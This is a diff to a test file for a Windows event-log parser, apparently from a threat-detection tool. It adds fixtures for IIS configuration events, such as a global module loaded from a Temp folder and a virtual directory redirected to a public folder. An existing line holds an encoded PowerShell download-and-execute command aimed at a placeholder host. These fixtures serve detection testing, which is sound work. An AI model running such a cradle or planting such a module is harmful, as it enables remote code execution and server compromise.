@@ -6,6 +6,7 @@ import { WindowsForm, windowsEvent } from '../../../src/parsers/windows-event.ts
 
 const SECURITY = 'Security'
 const WMI = 'Microsoft-Windows-WMI-Activity/Operational'
+const IIS = 'Microsoft-IIS-Configuration/Operational'
 const SYSMON = 'Microsoft-Windows-Sysmon/Operational'
 const code = 'iex (iwr http://192.0.2.10/a).Content'
 const encoded = Buffer.from(code, 'utf16le').toString('base64')
@@ -85,6 +86,39 @@ const rows: readonly {
     service: null,
   },
   {
+    what: 'a module of IIS',
+    from: [
+      IIS,
+      29,
+      {
+        Configuration: '/system.webServer/globalModules/add[@name="sample"]/@image',
+        NewValue: 'C:\\Windows\\Temp\\a.dll',
+      },
+    ],
+    service: 'iis-config',
+    target: 'sample',
+    fields: { Element: 'globalModule', Module: 'sample', Image: 'C:\\Windows\\Temp\\a.dll', Known: 'false' },
+  },
+  {
+    what: 'the folder of a virtual path of IIS',
+    from: [
+      IIS,
+      29,
+      {
+        PhysicalPath: 'C:\\config\\applicationHost.config',
+        Configuration: '/x/site[@name="a"]/application[@path="/b"]/virtualDirectory[@path="/"]/@physicalPath',
+        NewValue: 'C:\\Users\\Public',
+      },
+    ],
+    service: 'iis-config',
+    fields: { PhysicalPath: 'C:\\Users\\Public', EventData_PhysicalPath: 'C:\\config\\applicationHost.config' },
+  },
+  {
+    what: 'another setting of IIS',
+    from: [IIS, 29, { Configuration: '/x/siteDefaults/logFile/@directory', NewValue: 'C:\\Users\\Public' }],
+    service: null,
+  },
+  {
     what: 'a consumer that only writes to the event log',
     from: [WMI, 5861, { CONSUMER: 'NTEventLogEventConsumer="SCM"', PossibleCause: 'instance of X { Name="SCM"; };' }],
     service: null,
@@ -123,6 +157,7 @@ test('such events are never read by their form alone', () => {
     [SECURITY, 4702],
     [SYSMON, 20],
     [WMI, 5861],
+    [IIS, 29],
   ] as const) {
     assert.ok(tellsOfSetting(channel, eventId))
     assert.equal(WindowsForm.of({ channel, eventId, provider: null, more: [], data: ['a'] }), null)
